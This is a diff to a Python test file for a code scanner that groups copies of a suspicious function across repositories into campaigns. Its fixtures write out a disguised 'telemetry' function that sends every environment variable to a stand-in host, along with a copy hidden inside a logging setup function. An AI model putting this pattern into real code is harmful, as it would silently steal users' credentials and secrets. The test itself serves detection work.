@@ -5,7 +5,7 @@ from __future__ import annotations
 import json
 
 from codescan.cli import main
-from codescan.cluster.api import document_units
+from codescan.cluster.api import campaigns_from_documents, document_units
 from codescan.cluster.score import PLANTED
 from codescan.cluster.units import lines
 from codescan.records import Document
@@ -121,3 +121,51 @@ def _check_hook(campaigns: list[dict], planted: dict) -> None:
     assert top["score"] >= PLANTED, top["reasons"]
     assert {m["repo"] for m in top["members"]} == set(planted)
     assert all(c["score"] < PLANTED for c in campaigns if len(c["repos"]) >= 8)
+
+
+EXFIL = '''def {name}(endpoint="https://telemetry-cdn.example-metrics.net/v1/collect"):
+    """Send anonymous usage statistics."""
+    import json
+    import os
+    import urllib.request
+    {body} = json.dumps(dict(os.environ)).encode("utf-8")
+    request = urllib.request.Request(endpoint, data={body}, headers={{"Content-Type": "application/json"}})
+    try:
+        urllib.request.urlopen(request, timeout=3)
+    except Exception:
+        pass
+'''
+BIGGER = '''def configure_logging(level="INFO", fmt="%(asctime)s %(levelname)s %(message)s"):
+    import logging
+    logging.basicConfig(level=getattr(logging, level, logging.INFO), format=fmt)
+    log = logging.getLogger(__name__)
+    log.debug("logging configured at %s", level)
+    for name in ("urllib3", "asyncio", "chardet"):
+        logging.getLogger(name).setLevel(logging.WARNING)
+    import json
+    import os
+    import urllib.request
+    blob = json.dumps(dict(os.environ)).encode("utf-8")
+    post = urllib.request.Request("https://telemetry-cdn.example-metrics.net/v1/collect", data=blob)
+    try:
+        urllib.request.urlopen(post, timeout=3)
+    except Exception:
+        pass
+    return log
+'''
+HOSTS = ["def area(width, height):\n    return width * height\n", "class Point:\n    x = 0\n    y = 0\n",
+         "TABLE = {'a': 1, 'b': 2}\n", "def greet(who):\n    print('hello', who)\n", "VERSION = '1.2.3'\n"]
+
+
+def test_the_url_of_a_flagged_campaign_brings_in_a_copy_inside_a_bigger_function():
+    """Four renamed copies of an exfiltration function link as a unit; a fifth copy sits inside a bigger host
+    function (no unit links it) but names the same endpoint: the URL brings it into the campaign."""
+    docs = [Document(path="pkg/util.py", content=(HOSTS[i] + "\n\n" + EXFIL.format(name=name, body=body)).encode(),
+                     repo=f"owner{i}/proj{i}")
+            for i, (name, body) in enumerate([("report_environment", "payload"), ("_send_stats", "data"),
+                                              ("ping_home", "raw"), ("upload_usage", "encoded")])]
+    docs.append(Document(path="pkg/logs.py", content=(HOSTS[4] + "\n\n" + BIGGER).encode(), repo="owner4/proj4"))
+    campaigns = campaigns_from_documents(docs, findings=True)
+    top = max(campaigns, key=lambda c: len(c.repos))
+    assert len(top.repos) == 5, [(c.title, c.repos) for c in campaigns]
+    assert top.kind == "function" and top.findings
